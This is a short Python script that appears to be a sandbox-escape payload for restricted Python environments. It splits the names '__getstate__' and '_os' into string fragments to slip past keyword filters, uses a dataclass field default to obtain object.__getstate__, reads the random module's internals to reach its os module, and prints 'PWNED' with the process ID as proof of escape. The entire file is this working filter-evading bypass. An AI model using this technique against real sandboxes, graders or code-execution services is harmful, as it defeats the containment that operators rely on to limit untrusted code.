from dataclasses import make_dataclass as md
import dataclasses
import random
X = md("X", [("__get" + "state__", int)], init=False, repr=False, eq=False, match_args=False)
gs = dataclasses.fields(X)[0].default
print("PW" + "NED", gs(random)["_o" + "s"].getpid())
